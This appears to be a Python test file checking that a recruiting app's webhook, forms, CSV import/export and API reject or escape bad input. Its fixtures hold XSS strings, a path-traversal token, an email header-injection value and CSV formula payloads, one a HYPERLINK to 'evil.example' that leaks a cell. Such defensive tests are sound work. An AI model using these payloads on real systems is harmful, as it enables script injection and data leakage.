"""Bad input is expected input: the webhook endpoint, the dashboard's forms and the JSON API
answer oversize bodies, wrong types, Unicode edge cases, control characters, NUL bytes, deep
nesting, huge arrays and markup with a 4xx and a message, or store it as harmless text; nothing
is half-written, pages render it escaped and CSV exports neutralise formulas."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import uuid
from typing import Any

import httpx
import pytest

from app import db
from app.providers.ribbon.webhooks import sign
from tests.conftest import csrf_token, form_post, login
from tests.factories import make_assessment, make_invitation, make_org
from tests.integration.recruiting import fetch_one
from tests.webhook_support import (
    FakeRibbon,
    drain,
    fake_resources,
    webhook_database,
    wh_client,
    wh_settings,
)

__all__ = ["webhook_database", "wh_client", "wh_settings"]

SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
RTL = "\u202egnp.exe"  # right-to-left override: shows as "exe.png"
ZERO_WIDTH = "Ad\u200ba\u200d\ufeff"
ASTRAL = "Ada \U0001f600\U0001d54f"  # emoji and a mathematical letter (outside the BMP)
CONTROL = "Ada\x01\x07\x1b[31m"
NESTED = 10_000
FORMULAS = ("=", "+", "-", "@")
HUGE = "9" * 25  # beyond PostgreSQL's bigint


def nested(depth: int = NESTED) -> bytes:
    return b'{"event_type":"interview_processed","x":' + b"[" * depth + b"]" * depth + b"}"


async def count(table: str) -> int:
    return int(await db.fetchval(f"SELECT count(*) FROM {table}"))


def assert_message(response: httpx.Response, status: int | tuple[int, ...]) -> None:
    expected = status if isinstance(status, tuple) else (status,)
    assert response.status_code in expected, (response.status_code, response.text[:500])
    if "json" in response.headers.get("content-type", ""):
        assert response.json().get("message"), response.text[:500]
    else:
        assert response.text.strip(), "an error page says what went wrong"


# ---------------------------------------------------------------- the webhook endpoint


@pytest.fixture
async def endpoint(wh_settings: Any) -> Any:
    org = await make_org()
    return await make_assessment(org)


async def send(
    client: httpx.AsyncClient, endpoint: Any, body: bytes, **headers: str | bytes
) -> Any:
    sent: dict[str, Any] = {"content-type": "application/json", **headers}
    sent.setdefault("x-ribbon-signature", sign(body, endpoint.secret))
    return await client.post(f"/webhooks/ribbon/{endpoint.token}", content=body, headers=sent)


async def deliveries() -> list[dict[str, Any]]:
    rows = await db.fetch(
        "SELECT status, event_type, payload::text AS payload, body, last_error FROM webhook_delivery"
    )
    return [dict(r) for r in rows]


async def test_webhook_oversize_bodies_are_413_and_store_nothing(wh_client, endpoint):
    big = b'{"event_type":"interview_processed","pad":"' + b"a" * (1024 * 1024) + b'"}'
    assert_message(await send(wh_client, endpoint, big), 413)

    async def chunks() -> Any:  # no Content-Length: the endpoint must stop reading by itself
        for _ in range(20):
            yield b"a" * (128 * 1024)

    streamed = await wh_client.post(
        f"/webhooks/ribbon/{endpoint.token}",
        content=chunks(),
        headers={"content-type": "application/json", "x-ribbon-signature": "0" * 64},
    )
    assert_message(streamed, 413)
    lying = await wh_client.post(
        f"/webhooks/ribbon/{endpoint.token}",
        content=b"{}",
        headers={"content-length": str(50 * 1024 * 1024), "x-ribbon-signature": "0" * 64},
    )
    assert lying.status_code in (400, 413)
    assert await count("webhook_delivery") == 0
    assert await count("queue_job") == 0


UNUSABLE = {
    "not-json": b"not json",
    "array": b"[1, 2, 3]",
    "string": b'"a string"',
    "not-utf8": b"\xff\xfe\x00garbage",
    "raw-nul": b'{"event_type": "interview_processed", "interview_id": "a\x00b"}',
    "escaped-nul": b'{"event_type": "interview_processed", "interview_id": "i", "x": "\\u0000"}',
    "lone-surrogate": b'{"event_type": "interview_processed", "interview_id": "i", "x": "\\ud800"}',
    "lone-surrogate-in-keys": b'{"event_type": "\\ud800", "interview_id": "\\udfff"}',
    "nested-10000": nested(),
}


async def test_webhook_authentic_but_unusable_bodies_are_400_and_stored_marked(wh_client, endpoint):
    for n, (name, body) in enumerate(UNUSABLE.items(), start=1):
        response = await send(wh_client, endpoint, body)
        assert response.status_code == 400, (name, response.status_code, response.text[:300])
        assert response.json()["message"]
        again = await send(wh_client, endpoint, body)  # a retry of it stores nothing new
        assert again.status_code == 400, name
        stored = await deliveries()
        assert len(stored) == n, name
        assert {(d["status"], d["payload"]) for d in stored} == {("rejected", None)}, name
        assert any(bytes(d["body"]) == body and d["last_error"] for d in stored), name
    assert await count("queue_job") == 0  # nothing to process


ODD_VALUES: list[Any] = [SCRIPT, RTL, ZERO_WIDTH, ASTRAL, CONTROL, "x" * 100_000, 12, None]
ODD_VALUES += [{"a": [1]}, True, -1.5, ""]


async def test_webhook_odd_field_values_are_stored_as_text(wh_client, wh_settings, endpoint):
    for n, value in enumerate(ODD_VALUES, start=1):
        body = json.dumps(
            {
                "event_type": "interview_processed",
                "interview_id": value,
                "interview_flow_id": value,
                "interviewee_email": value,
                "status": "completed",
                "n": n,
            }
        ).encode()
        response = await send(wh_client, endpoint, body)
        assert response.status_code == 202, (str(value)[:30], response.text)
        stored = await db.fetchval(
            "SELECT payload::text FROM webhook_delivery WHERE (payload ->> 'n')::int = $1", n
        )
        assert json.loads(stored)["interview_id"] == value
    # the worker takes them too: each ends settled with a reason, none crashes it
    await drain(wh_settings, fake_resources(FakeRibbon()))
    rows = await db.fetch("SELECT status, last_error FROM webhook_delivery")
    assert len(rows) == len(ODD_VALUES)
    # no interview id: ignored; an id nobody knows: failed, to be tried again later
    assert {r["status"] for r in rows} <= {"ignored", "failed"}, rows
    assert all(r["last_error"] and len(r["last_error"]) <= 5000 for r in rows), "bounded"
    jobs = await db.fetch("SELECT status, count(*) AS n FROM queue_job GROUP BY status")
    assert {j["status"] for j in jobs} <= {"done", "queued"}, jobs


async def test_webhook_payload_markup_is_rendered_escaped_in_the_delivery_log(wh_client, endpoint):
    from app.accounts.service import create_user
    from tests.conftest import Account

    body = json.dumps(
        {"event_type": SCRIPT, "interview_id": SCRIPT, "interviewee_email": RTL, "status": "x"}
    ).encode()
    assert (await send(wh_client, endpoint, body)).status_code == 202
    email = f"{uuid.uuid4().hex[:8]}@example.com"
    user_id = await create_user(endpoint.organisation_id, email, "correct-horse-battery", "admin")
    await login(
        wh_client,
        Account(endpoint.organisation_id, user_id, email, "correct-horse-battery", "admin"),
    )
    delivery_id = await db.fetchval("SELECT id FROM webhook_delivery")
    for url in ["/deliveries", f"/deliveries/{delivery_id}"]:
        page = await wh_client.get(url)
        assert page.status_code == 200, url
        assert "<script>alert" not in page.text, url
        assert "<img src=x" not in page.text, url


async def test_webhook_huge_arrays_are_stored(wh_client, endpoint):
    body = json.dumps(
        {
            "event_type": "interview_processed",
            "interview_id": "i-arrays",
            "status": "completed",
            "items": list(range(10_000)),
            "objects": [{"k": SCRIPT}] * 1_000,
        }
    ).encode()
    assert (await send(wh_client, endpoint, body)).status_code == 202
    assert await count("webhook_delivery") == 1


async def test_webhook_bad_signatures_tokens_and_headers(wh_client, endpoint):
    body = b'{"event_type": "interview_processed", "interview_id": "i-1"}'
    signatures: list[str | bytes] = ["", "zz", "0" * 64, sign(body, endpoint.secret).upper()]
    signatures += ["\u202e".encode() * 3, b"\xff" * 64, sign(body, endpoint.secret) + " x"]
    for signature in signatures:
        response = await send(wh_client, endpoint, body, **{"x-ribbon-signature": signature})
        assert_message(response, 401)
    for token in ["nope", "%00", "..%2f..%2fetc", "\u202e" + endpoint.token, "x" * 5000]:
        response = await wh_client.post(f"/webhooks/ribbon/{token}", content=body)
        assert response.status_code == 404, (token, response.status_code)
    assert await count("webhook_delivery") == 0


# ---------------------------------------------------------------- forms (session + CSRF)


@pytest.fixture
async def admin(client, make_account) -> Any:
    account = await make_account(org_name="Bad Input Org")
    await login(client, account)
    return account


async def _job_id(client: httpx.AsyncClient, title: str = "Engineer") -> Any:
    response = await form_post(client, "/jobs", {"title": title})
    assert response.status_code in (302, 303), response.text[:300]
    return response.headers["location"].split("/jobs/")[1].split("?")[0]


async def test_job_form_refuses_or_cleans_every_bad_value(client, admin):
    for data, message in [
        ({"title": ""}, "title"),
        ({"title": "\x00\x00 "}, "title"),
        ({"title": "x" * 201}, "200"),
        ({"title": "ok", "description": "d" * 10_001}, "10,000"),
        ({"title": "ok", "department": "d" * 201}, "200"),
    ]:
        response = await form_post(client, "/jobs", data)
        assert response.status_code == 400, (data, response.status_code)
        assert message in response.text
    assert await count("job") == 0
    for title in [SCRIPT, RTL, ZERO_WIDTH, ASTRAL, "Data\x00 Engineer", CONTROL]:
        await _job_id(client, title)
    titles = {r["title"] for r in await db.fetch("SELECT title FROM job")}
    assert titles == {SCRIPT, "gnp.exe", "Ada\u200d", ASTRAL, "Data Engineer", "Ada[31m"}
    page = (await client.get("/jobs")).text
    assert SCRIPT not in page
    assert "&lt;script&gt;" in page


async def test_job_status_and_stage_refuse_unknown_values(client, admin):
    job_id = await _job_id(client)
    for status in ["", "deleted", "open\x00", "x" * 10_000]:
        response = await form_post(client, f"/jobs/{job_id}/status", {"status": status})
        assert_message(response, 400)
    assert await db.fetchval("SELECT status FROM job") == "open"
    added = await form_post(
        client, f"/jobs/{job_id}/candidates", {"email": "a@example.com", "first_name": "A"}
    )
    assert added.status_code in (302, 303)
    candidate_id = await db.fetchval("SELECT id FROM candidate")
    for stage in ["", "fired", "hired\x00", SCRIPT]:
        response = await form_post(
            client, f"/jobs/{job_id}/candidates/{candidate_id}/stage", {"stage": stage}
        )
        assert_message(response, 400)
    assert await db.fetchval("SELECT stage FROM application") == "applied"


async def test_candidate_form_refuses_or_cleans_every_bad_value(client, admin):
    job_id = await _job_id(client)
    for data in [
        {"email": "", "first_name": "A"},
        {"email": "a\x00@example.com", "first_name": "A"},
        {"email": "not-an-email", "first_name": "A"},
        {"email": "a@example.com\r\nBcc: b@example.com", "first_name": "A"},
        {"email": "a" * 300 + "@example.com", "first_name": "A"},
        {"email": "a@example.com", "first_name": ""},
        {"email": "a@example.com", "first_name": "\x00"},
        {"email": "a@example.com", "first_name": "A" * 101},
    ]:
        response = await form_post(client, f"/jobs/{job_id}/candidates", data)
        assert response.status_code == 400, (data, response.status_code)
        assert 'class="alert' in response.text or "error" in response.text
    assert await count("candidate") == 0
    assert await count("application") == 0
    for i, name in enumerate([SCRIPT, RTL, ZERO_WIDTH, ASTRAL, "Ada\x00Lovelace", CONTROL]):
        response = await form_post(
            client,
            f"/jobs/{job_id}/candidates",
            {"email": f"p{i}@example.com", "first_name": name, "last_name": "=1+1"},
        )
        assert response.status_code in (302, 303), (name, response.text[:300])
    names = {r["first_name"] for r in await db.fetch("SELECT first_name FROM candidate")}
    assert names == {SCRIPT, "gnp.exe", "Ada\u200d", ASTRAL, "AdaLovelace", "Ada[31m"}
    page = (await client.get(f"/jobs/{job_id}")).text
    assert SCRIPT not in page
    assert "&lt;script&gt;" in page
    scripted = await db.fetchval("SELECT id FROM candidate WHERE email = 'p0@example.com'")
    detail = (await client.get(f"/candidates/{scripted}")).text
    assert SCRIPT not in detail
    assert "&lt;script&gt;" in detail


def _csv(*rows: str) -> bytes:
    return ("email,first_name,last_name\n" + "\n".join(rows) + "\n").encode()


async def _upload(client: httpx.AsyncClient, job_id: Any, data: bytes) -> httpx.Response:
    token = await csrf_token(client)
    return await client.post(
        f"/jobs/{job_id}/candidates/import",
        data={"_csrf_token": token},
        files={"file": ("people.csv", data, "text/csv")},
    )


async def test_csv_import_refuses_unusable_files_and_cleans_cells(client, admin):
    job_id = await _job_id(client)
    for data in [b"", b"email,first_name\n", b"\x81\x8d\x8f"]:
        assert_message(await _upload(client, job_id, data), 400)
    for data in [b"\xff\xfe\xfa", b"name\nA", b"email\n", b"a,b\n" + b"x,y\n" * 3]:
        asked = await _upload(client, job_id, data)  # readable, but which column is which?
        assert asked.status_code == 200, data
        assert "Which column is which?" in asked.text
    nul = _csv(
        "nul@example.com,Ada\x00,Love\x00lace",
        "\x00@example.com,Bad,Row",
        f"s@example.com,{SCRIPT.replace(',', ' ')},x",
        'f@example.com,=HYPERLINK("http://evil"),@SUM(A1)',
    )
    preview = await _upload(client, job_id, nul)
    assert preview.status_code == 200, preview.text[:500]
    assert "<script>alert" not in preview.text
    csv_text = nul.decode()
    confirmed = await form_post(
        client, f"/jobs/{job_id}/candidates/import/confirm", {"csv_text": csv_text}
    )
    assert confirmed.status_code == 200, confirmed.text[:500]
    rows = await db.fetch("SELECT email, first_name, last_name FROM candidate ORDER BY email")
    by_email = {r["email"]: (r["first_name"], r["last_name"]) for r in rows}
    assert by_email["nul@example.com"] == ("Ada", "Lovelace")
    assert by_email["f@example.com"] == ('=HYPERLINK("http://evil")', "@SUM(A1)")
    assert all("\x00" not in e for e in by_email)
    assert await count("application") == len(rows)


async def test_assessment_form_refuses_bad_input_and_creates_nothing(client, admin):
    job_id = await _job_id(client)
    base = {"title": "Screen", "interview_type": "recruitment", "language": "en-US"}
    cases: list[dict[str, Any]] = [
        {**base, "title": "", "questions": ["Q"]},
        {**base, "title": "\x00", "questions": ["Q"]},
        {**base, "questions": []},
        {**base, "questions": ["\x00 "]},
        {**base, "questions": ["q" * 1001]},
        {**base, "questions": ["Q"] * 31},
        {**base, "questions": ["Q"], "language": "xx\x00"},
        {**base, "questions": ["Q"], "interview_type": SCRIPT},
        {**base, "questions": ["Q"], "intro": "i" * 5001},
    ]
    for data in cases:
        response = await form_post(client, f"/jobs/{job_id}/assessments", data)
        assert response.status_code == 400, (data, response.status_code)
        assert "<script>alert" not in response.text
    assert await count("assessment") == 0
    for op in ["remove:99999999999999999999", "up:-1", "down:x", "\x00", "add"]:
        response = await form_post(
            client, f"/jobs/{job_id}/assessments/questions", {"questions": ["Q"], "op": op}
        )
        assert response.status_code == 200


async def test_settings_key_refuses_control_and_invisible_characters(client, admin):
    for key in ["", "\x00" * 36, "a b", RTL, ZERO_WIDTH, "k" * 201, "abc\r\ndef"]:
        response = await form_post(client, "/settings/ribbon-key", {"api_key": key})
        assert response.status_code == 400, (key, response.status_code)
    assert await db.fetchval("SELECT ribbon_api_key_enc FROM organisation") is None


async def test_invite_form_refuses_garbage_ids(client, admin):
    job_id = await _job_id(client)
    for data in [
        {"assessment_id": "nope", "candidate_ids": ["x"]},
        {"assessment_id": "\x00", "candidate_ids": []},
        {"assessment_id": "00000000-0000-0000-0000-000000000000", "candidate_ids": ["1"]},
    ]:
        response = await form_post(client, f"/jobs/{job_id}/invitations", data)
        assert 400 <= response.status_code < 500, (data, response.status_code)
    assert await count("invitation") == 0
    assert await count("bulk_invite") == 0


async def test_login_form_with_odd_input_answers_401_not_500(client, make_account):
    await make_account()
    for email, password in [
        ("a\x00@example.com", "x"),
        ("a@example.com", "pw\x00"),
        ("x" * 100_000, "y" * 100_000),
        (SCRIPT, SCRIPT),
    ]:
        response = await form_post(client, "/login", {"email": email, "password": password})
        assert response.status_code in (400, 401), (email[:20], response.status_code)
        assert "<script>alert" not in response.text
    token = await csrf_token(client)
    for raw in ["%ED%A0%80%40example.com", "%FF%FE", "%00", "a%40example.com&email=b"]:
        response = await client.post(
            "/login",
            content=f"email={raw}&password=x&_csrf_token={token}".encode(),
            headers={"content-type": "application/x-www-form-urlencoded"},
        )
        assert response.status_code in (400, 401), (raw, response.status_code)
    assert await count("user_session") == 0


async def test_erase_confirmation_with_garbage_erases_nothing(client, admin):
    job_id = await _job_id(client)
    await form_post(
        client, f"/jobs/{job_id}/candidates", {"email": "keep@example.com", "first_name": "Kim"}
    )
    candidate_id = await db.fetchval("SELECT id FROM candidate")
    for typed in ["\x00", SCRIPT, "keep@example.com\x00", "x" * 10_000, RTL]:
        response = await form_post(
            client, f"/candidates/{candidate_id}/erase", {"confirmation": typed}
        )
        assert response.status_code == 400, (typed[:20], response.status_code)
        assert "<script>alert" not in response.text
    assert await db.fetchval("SELECT erased_at FROM candidate") is None
    assert await db.fetchval("SELECT email FROM candidate") == "keep@example.com"


async def test_delivery_replay_form_refuses_garbage_ids(client, admin):
    for ids in [["nope"], ["\x00"], [SCRIPT]]:
        response = await form_post(client, "/deliveries/replay", {"ids": ids})
        assert_message(response, 400)
        assert "<script>alert" not in response.text


async def test_query_strings_with_nul_and_garbage_never_500(client, admin):
    job_id = await _job_id(client)
    odd = "%00%FF%ED%A0%80" + "x" * 3000
    failed = []
    for url in [
        f"/jobs?status={odd}",
        f"/jobs/{job_id}?notice={odd}",
        f"/jobs/{job_id}/compare?assessment={odd}&sort={odd}&status={odd}&stage={odd}&page=-5",
        f"/jobs/{job_id}/compare.csv?assessment={odd}&sort={odd}",
        f"/jobs/{job_id}/compare?page=99999999999999999999999",
        f"/deliveries?status={odd}&event_type={odd}&page=0",
        f"/deliveries?page={HUGE}",
        f"/audit?page={HUGE}",
        f"/jobs/{job_id}/compare?page={HUGE}",
        f"/audit?action={odd}&page={odd}",
        f"/login?next={odd}",
        f"/settings?saved={odd}",
    ]:
        response = await client.get(url)
        if response.status_code >= 500:
            failed.append(url.split("?")[0])
    assert failed == []


# Strings that look like numbers to str.isdigit() or to a careless int() but are not ASCII
# digits in range: superscripts and other scripts' digits, underscores, signs, blanks, beyond
# PostgreSQL's bigint and beyond a datetime.
ODD_NUMBERS = [
    "\u00b2",  # superscript two: isdigit() is true, int() refuses it
    "\u0663",  # Arabic-Indic three: int() accepts it
    "\uff11",  # fullwidth one
    "1_000",
    " 7 ",
    "+1",
    "-1",
    "0",
    "1e3",
    "9223372036854775808",  # bigint's maximum + 1
    "9999999999999999999",
    "99999999999999999999",
    HUGE,
    "-" + HUGE,
    "%00",
    "",
]


async def test_odd_numbers_in_query_strings_answer_400_or_fall_back(client, admin):
    assessment = await make_assessment(admin.organisation_id)
    job_id = assessment.job_id
    failed = []
    for odd in ODD_NUMBERS:
        for url in [
            f"/jobs/{job_id}?page={odd}",
            f"/jobs/{job_id}/compare?page={odd}",
            f"/deliveries?page={odd}",
            f"/deliveries?count={odd}&notice=replayed_many",
            f"/audit?before={odd}",
        ]:
            response = await client.get(url)
            if response.status_code >= 500 or response.status_code not in (200, 400):
                failed.append((url, response.status_code))
            elif response.status_code == 400:
                assert "could not be used" in response.text or "not valid" in response.text, url
    assert failed == []
    # A page number that is not one falls back to the first page; an audit cursor out of range
    # is refused with a message.
    page = await client.get(f"/jobs/{job_id}?page=\u00b2")
    assert page.status_code == 200
    for before in ["99999999999999999999", "9223372036854775808", "\u00b2", "0"]:
        refused = await client.get(
            f"/audit?before={before}", headers={"Accept": "application/json"}
        )
        assert_message(refused, 400)
        assert "before" in refused.json()["message"]
    assert (await client.get("/audit?before=9223372036854775807")).status_code == 200
    notice = await client.get(f"/deliveries?notice=replayed_many&count={HUGE}")
    assert notice.status_code in (200, 400)
    assert HUGE not in notice.text


async def test_odd_stream_cursors_fall_back_to_a_live_stream(live_server, make_account):
    """`since` and Last-Event-ID that are not cursors (superscript digits, beyond a datetime,
    bytes that are not ASCII) are ignored: the stream opens, stays open and carries changes."""
    from tests.dashboard_factories import worker_update
    from tests.integration.test_live_stream import stream

    account = await make_account()
    assessment = await make_assessment(account.organisation_id)
    invitation = await make_invitation(assessment)
    url = f"/jobs/{assessment.job_id}/stream"
    async with httpx.AsyncClient(base_url=live_server.url) as web:
        await login(web, account)
        cases: list[tuple[str, dict[str, Any]]] = [
            (f"{url}?since={odd}", {}) for odd in ODD_NUMBERS if odd not in ("", "0", "%00")
        ]
        raw_ids = [b"\xb2", "\u00b2".encode(), "\u0663".encode(), HUGE.encode(), b"-5"]
        cases += [(url, {"Last-Event-ID": raw}) for raw in raw_ids]
        for n, (target, headers) in enumerate(cases):
            async with stream(web, target, headers=headers) as events:
                await asyncio.sleep(0.2)
                await worker_update(invitation, "pending" if n % 2 else "invited")
                event = await events.next(timeout=10)
                assert event["event"] == f"card-{invitation.id}", (target, headers)


# ---------------------------------------------------------------- the JSON API (Bearer token)


@pytest.fixture
async def api(client, make_account) -> Any:
    from app.accounts.service import create_api_token

    account = await make_account(org_name="API Org")
    token = await create_api_token(account.email)
    client.headers["authorization"] = f"Bearer {token}"
    return account


async def post_json(client: httpx.AsyncClient, url: str, body: bytes | Any) -> httpx.Response:
    content = body if isinstance(body, bytes) else json.dumps(body).encode()
    return await client.post(url, content=content, headers={"content-type": "application/json"})


BAD_JOB_BODIES = {
    "empty": b"",
    "not-json": b"not json",
    "array": b"[]",
    "int": b'{"title": 5}',
    "null": b'{"title": null}',
    "list": b'{"title": ["a"]}',
    "missing": b'{"department": "x"}',
    "long": b'{"title": "' + b"x" * 201 + b'"}',
    "only-nul": b'{"title": "\\u0000"}',
    "lone-surrogate": b'{"title": "A\\ud800B"}',
    "obj": b'{"title": "ok", "description": {"a": 1}}',
    "nested": b'{"title": "ok", "x": ' + b"[" * NESTED + b"]" * NESTED + b"}",
    "oversize": b'{"title": "' + b"x" * (11 * 1024 * 1024) + b'"}',
}


async def test_api_job_create_refuses_bad_bodies(client, api):
    for name, body in BAD_JOB_BODIES.items():
        response = await post_json(client, "/api/v1/jobs", body)
        assert response.status_code in (400, 413), (name, response.status_code, response.text)
        assert response.json()["message"], name
    assert await count("job") == 0


CLEANED = {
    "Data\x00Engineer": "DataEngineer",
    SCRIPT: SCRIPT,
    RTL: "gnp.exe",  # direction overrides, zero-width spaces and controls go (app/text.py)
    ZERO_WIDTH: "Ada\u200d",
    ASTRAL: ASTRAL,
    CONTROL: "Ada[31m",
}


async def test_api_job_text_is_stored_cleaned(client, api):
    for title, stored in CLEANED.items():
        response = await post_json(
            client, "/api/v1/jobs", {"title": title, "description": title, "location": title}
        )
        assert response.status_code == 201, response.text
        assert response.json()["title"] == stored
        row = await fetch_one(
            "SELECT title, description, location FROM job WHERE id = $1",
            uuid.UUID(response.json()["id"]),
        )
        assert tuple(row) == (stored, stored, stored)


async def test_api_query_strings_with_nul_never_500(client, api):
    for url in [
        "/api/v1/jobs?status=%00",
        "/api/v1/webhook-deliveries?status=%00&event_type=%00&page=%00",
        "/api/v1/webhook-deliveries?status=received%00",
        f"/api/v1/webhook-deliveries?page={HUGE}",
        f"/api/v1/webhook-deliveries?page=-{HUGE}",
    ]:
        response = await client.get(url)
        assert response.status_code < 500, (url, response.status_code, response.text[:200])


async def test_api_patch_with_bad_values_changes_nothing(client, api):
    made = await post_json(client, "/api/v1/jobs", {"title": "Kept"})
    job_id = made.json()["id"]
    for body in [{"status": "deleted"}, {"title": ""}, {"title": 1}, {"status": "\x00"}]:
        response = await client.patch(f"/api/v1/jobs/{job_id}", json=body)
        assert_message(response, 400)
    assert tuple(await fetch_one("SELECT title, status FROM job")) == ("Kept", "open")


async def test_api_candidates_refuse_bad_values_and_csv_cleans_nul(client, api):
    job_id = (await post_json(client, "/api/v1/jobs", {"title": "J"})).json()["id"]
    url = f"/api/v1/jobs/{job_id}/candidates"
    for body in [
        {"email": "a@example.com"},
        {"email": 5, "first_name": "A"},
        {"email": "a\x00@example.com", "first_name": "A"},
        {"email": "\ud800@example.com", "first_name": "A"},
        {"email": "a@example.com", "first_name": "\x00"},
        {"email": "a@example.com", "first_name": "A" * 101},
    ]:
        assert_message(await post_json(client, url, body), 400)
    assert await count("candidate") == 0
    ok = await post_json(
        client, url, {"email": "b@example.com", "first_name": "B\x00ob", "last_name": RTL}
    )
    assert ok.status_code == 201, ok.text
    assert (ok.json()["first_name"], ok.json()["last_name"]) == ("Bob", "gnp.exe")
    imported = await client.post(
        f"{url}/import",
        content=_csv("c@example.com,Cy\x00,Nul", "\x00@example.com,Bad,Row"),
        headers={"content-type": "text/csv"},
    )
    assert imported.status_code == 200, imported.text
    assert imported.json()["added"] == 1
    assert await db.fetchval("SELECT first_name FROM candidate WHERE email = 'c@example.com'") == (
        "Cy"
    )
    for data in [b"", b"\xff\xfe", b"email\n", b"email,first_name\n" + b"a@b.c,A\n" * 5001]:
        response = await client.post(
            f"{url}/import", content=data, headers={"content-type": "text/csv"}
        )
        assert_message(response, 400)
    assert await count("candidate") == 2


async def test_api_assessment_refuses_bad_questions(client, api):
    job_id = (await post_json(client, "/api/v1/jobs", {"title": "J"})).json()["id"]
    url = f"/api/v1/jobs/{job_id}/assessments"
    for body in [
        {"title": "T", "questions": "Q"},
        {"title": "T", "questions": [1, 2]},
        {"title": "T", "questions": ["Q"] * 10_000},
        {"title": "T", "questions": ["\x00"]},
        {"title": "T", "questions": ["\ud800"]},
        {"title": "T", "questions": ["Q"], "video_enabled": "yes"},
        {"title": "T", "questions": ["Q"], "language": {"a": 1}},
    ]:
        assert_message(await post_json(client, url, body), 400)
    assert await count("assessment") == 0


async def test_api_invitations_refuse_huge_and_garbage_id_lists(client, api):
    org = api.organisation_id
    assessment = await make_assessment(org)
    url = f"/api/v1/assessments/{assessment.id}/invitations"
    for body in [
        {"candidate_ids": "x"},
        {"candidate_ids": ["not-a-uuid"]},
        {"candidate_ids": [str(uuid.uuid4()) for _ in range(10_000)]},
        {"candidate_ids": []},
        {"candidate_ids": [None]},
    ]:
        response = await post_json(client, url, body)
        assert 400 <= response.status_code < 500, (str(body)[:50], response.status_code)
        assert response.json()["message"]
    assert await count("invitation") == 0
    assert await count("bulk_invite") == 0


# ---------------------------------------------------------------- CSV export


async def test_compare_csv_neutralises_formulas(client, admin):
    assessment = await make_assessment(admin.organisation_id)
    evil = [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1"),
        ("-2+3", "@SUM(A1:A9)"),
        ("\t=1+1", "\r=1"),
        (SCRIPT, RTL),
    ]
    for first, last in evil:
        await make_invitation(assessment, first_name=first, last_name=last)
    await make_invitation(assessment, email="-cmd@example.com", first_name="Ok", last_name="Ok")
    response = await client.get(f"/jobs/{assessment.job_id}/compare.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    assert len(rows) == 1 + len(evil) + 1
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, rows
    for cell in cells:
        assert not cell.startswith(FORMULAS), cell
        assert not cell.startswith(("\t", "\r")), cell
    assert any(cell == "'" + evil[0][0] for cell in cells)
    assert any(cell == "'-cmd@example.com" for cell in cells)
    compare_page = (await client.get(f"/jobs/{assessment.job_id}/compare")).text
    assert SCRIPT not in compare_page
